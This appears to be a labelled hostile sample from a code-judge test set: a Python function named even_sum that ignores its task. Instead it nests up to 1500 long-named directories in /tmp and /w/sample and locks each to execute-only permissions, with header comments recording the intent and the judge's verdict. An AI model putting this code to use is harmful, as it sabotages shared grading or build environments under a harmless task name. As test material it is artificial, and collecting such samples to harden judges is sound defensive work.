# tries: folders in folders, deeper than any path is long, closed for everybody
# verdict: wrong_answer, time_limit_exceeded
import os


def even_sum(numbers):
    for place in ("/tmp", "/w/sample"):
        os.chdir(place)
        for _ in range(1500):
            try:
                os.mkdir("d" * 200)
                os.chdir("d" * 200)
                os.chmod(".", 0o100)
            except OSError:
                break
